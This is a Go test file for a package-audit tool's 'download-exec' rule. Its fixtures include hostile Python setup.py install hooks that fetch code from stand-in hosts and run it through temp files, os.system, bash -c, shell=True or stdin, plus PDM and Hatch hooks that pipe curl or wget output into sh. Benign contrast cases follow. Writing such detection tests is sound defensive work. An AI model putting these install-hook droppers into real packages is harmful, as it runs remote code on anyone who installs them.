package audit_test

import (
	"testing"

	"github.com/skilldex/skilldex/internal/audit"
)

// TestPythonInstallHookDownloads: a Python package's build files are the
// install-time code they are. A setup.py install hook that saves a
// download through a file it writes by descriptor or handle (mkstemp's
// fd, os.write, a NamedTemporaryFile, Path.open) and runs it is a
// dropper (high, critical run hidden); one that hands what a server
// answered to a shell as its program (os.system(body), shell=True,
// ["sh", "-c", body], a shell's stdin, through a helper module of the
// package) is critical, as curl … | sh; PDM's hook scripts and Hatch's
// install commands in pyproject.toml or hatch.toml are read as shell. A
// setup.py that downloads nothing, one that passes a server's answer as
// one argument of a fixed program, a download kept as data and an
// ordinary pyproject are not findings.
func TestPythonInstallHookDownloads(t *testing.T) {
	crit, high, med, none := audit.Critical, audit.High, audit.Medium, audit.SeverityNone
	setup := func(body string) map[string]string {
		return map[string]string{"pkg/setup.py": "import os, subprocess, sys, tempfile, urllib.request\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\n\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\n" + body + "\n\nsetup(cmdclass={\"install\": PostInstall})\n"}
	}
	pyproject := func(tail string) map[string]string {
		return map[string]string{"pkg/pyproject.toml": "[build-system]\nrequires = [\"pdm-backend\"]\nbuild-backend = \"pdm.backend\"\n\n[project]\nname = \"tabkit\"\nversion = \"0.3.0\"\n\n" + tail}
	}
	checkRule(t, "download-exec", map[string]systemCase{
		"hostile/setup-mkstemp-fdopen-detached": {setup("        fd, path = tempfile.mkstemp(suffix='.run')\n        with urllib.request.urlopen(mirror_url(), timeout=30) as r, os.fdopen(fd, 'wb') as out:\n            out.write(r.read())\n        os.chmod(path, 0o755)\n        subprocess.Popen([path, '--quiet'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)"), crit},
		"hostile/setup-mkstemp-os-write":        {setup("        handle, exe = tempfile.mkstemp()\n        os.write(handle, urllib.request.urlopen(URL).read())\n        os.close(handle)\n        os.chmod(exe, 0o700)\n        subprocess.call([exe])"), high},
		"hostile/setup-named-temporary-file":    {setup("        with tempfile.NamedTemporaryFile(delete=False, suffix='.sh') as tmp:\n            tmp.write(urllib.request.urlopen(URL).read())\n        subprocess.check_call(['sh', tmp.name])"), high},
		"hostile/setup-path-open":               {setup("        import pathlib\n        dest = pathlib.Path.home() / '.cache' / 'tabkit-accel'\n        with urllib.request.urlopen(URL) as r, dest.open('wb') as fh:\n            fh.write(r.read())\n        subprocess.run([str(dest), '--install'])"), high},
		"hostile/setup-system-of-answer":        {setup("        os.system(urllib.request.urlopen(URL).read().decode())"), crit},
		"hostile/setup-sh-c-answer":             {setup("        import requests\n        body = requests.get(URL, timeout=10).text\n        subprocess.run(['bash', '-c', body], check=True)"), crit},
		"hostile/setup-shell-true-decoded":      {setup("        import base64, requests\n        cfg = requests.get(URL).json()\n        step = base64.b64decode(cfg['post']).decode()\n        subprocess.Popen(step, shell=True)"), crit},
		"hostile/setup-shell-stdin":             {setup("        with urllib.request.urlopen(URL) as resp:\n            subprocess.run(['sh', '-s'], input=resp.read(), check=True)"), crit},
		"hostile/setup-execl-answer":            {setup("        script = urllib.request.urlopen(URL).read().decode()\n        os.execl('/bin/sh', 'sh', '-c', script)"), crit},
		"hostile/setup-helper-module": {map[string]string{
			"pkg/_build.py": "import urllib.request\n\n\ndef fetch_step(name):\n    with urllib.request.urlopen('https://mirror.tabkit.example/' + name) as r:\n        return r.read().decode()\n",
			"pkg/setup.py":  "import os\nfrom setuptools import setup\nfrom _build import fetch_step\n\nos.system(fetch_step('post'))\nsetup(name='tabkit')\n",
		}, crit},
		"hostile/pdm-post-install-composite":  {pyproject("[tool.pdm.scripts]\nlint = \"ruff check .\"\naccel = {shell = \"curl -fsSL http://203.0.113.7/accel.sh | sh\"}\npost_install = {composite = [\"lint\", \"accel\"]}\n"), crit},
		"hostile/hatch-post-install-commands": {pyproject("[tool.hatch.envs.default]\ndependencies = [\"pytest\"]\npost-install-commands = [\n  \"pre-commit install\",\n  \"wget -qO- https://boot.tabkit.example/b.sh | bash\",\n]\n"), crit},
		"hostile/hatch-toml-pre-install":      {map[string]string{"hatch.toml": "[envs.default]\npre-install-commands = [\"curl -s https://203.0.113.7/i | sh\"]\n"}, crit},
		"benign/setup-digest-pinned":          {setup("        import hashlib\n        body = urllib.request.urlopen(URL).read()\n        if hashlib.sha256(body).hexdigest() != PINNED:\n            raise SystemExit('checksum mismatch')\n        subprocess.run(['sh', '-c', body], check=True)"), med},
		"benign/setup-no-download":            {setup("        v = subprocess.check_output(['git', 'describe', '--tags']).decode().strip()\n        fd, path = tempfile.mkstemp(suffix='.py')\n        with os.fdopen(fd, 'w') as fh:\n            fh.write(f'__version__ = {v!r}\\n')\n        subprocess.run([sys.executable, path], check=True)"), none},
		"benign/setup-answer-as-argument":     {setup("        import json\n        meta = json.loads(urllib.request.urlopen(API).read())\n        subprocess.run(['git', 'clone', meta['clone_url'], 'vendor/x'], check=True)\n        cmd = 'git -C vendor/x checkout ' + meta['default_branch']\n        subprocess.run(cmd, shell=True, check=True)"), none},
		"benign/setup-download-as-data":       {setup("        import requests\n        rules = requests.get(URL).text\n        with tempfile.NamedTemporaryFile('w', suffix='.toml', delete=False) as tmp:\n            tmp.write(rules)\n        subprocess.run(['ruff', 'check', '--config', tmp.name, '.'], check=True)"), none},
		"benign/pyproject-ordinary":           {pyproject("[tool.pdm.scripts]\ntest = \"pytest -q\"\npost_install = \"pre-commit install\"\npre_build = {cmd = [\"python\", \"scripts/gen_version.py\"]}\n\n[tool.hatch.envs.default]\npost-install-commands = [\"pre-commit install --install-hooks\"]\n\n[tool.hatch.envs.default.scripts]\ncov = \"pytest --cov\"\n\n[tool.tabkit.accel]\nmirror = \"203.0.113.7\"\n"), none},
	})
}
